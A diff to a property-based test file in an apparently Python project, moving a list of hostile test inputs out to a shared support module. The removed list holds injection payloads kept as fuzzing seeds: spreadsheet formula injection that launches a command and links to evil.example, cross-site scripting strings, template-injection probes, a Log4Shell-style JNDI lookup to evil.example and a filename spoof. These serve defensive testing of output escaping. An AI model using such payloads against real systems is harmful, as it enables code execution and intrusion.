@@ -49,35 +49,14 @@ from campaign_assets.spec import (
 )
 
 from .conftest import EXAMPLES, SEED
+from .support.hostile import HOSTILE_TEXT
 
 FAST = settings(max_examples=80, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
 SLOW = settings(max_examples=40, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
 CLI = settings(max_examples=6, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
 
 # ---- hostile text -----------------------------------------------------------------
-HOSTILE_SEEDS = [
-    "=1+2",
-    "+SUM(A1)",
-    "-2+3",
-    "@cmd",
-    "\t=x",
-    "\r=x",
-    '=HYPERLINK("http://evil.example","click")',
-    "=cmd|' /C calc'!A0",
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg onload=alert(1)>",
-    "</title><script>alert(1)</script>",
-    "{{7*7}}",
-    "{% for x in range(9) %}x{% endfor %}",
-    "${jndi:ldap://evil.example/a}",
-    "\u202eevil\u202c txt.exe",
-    "<!channel> <@U123> &amp;",
-    "line one\nline two\r\nline three",
-    "quote \" and ' and `",
-    "a,b;c\td",
-    "x" * 3000,
-]
+HOSTILE_SEEDS = [h[:3000] for h in HOSTILE_TEXT]
 _TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)
 HOSTILE = st.one_of(
     st.sampled_from(HOSTILE_SEEDS),
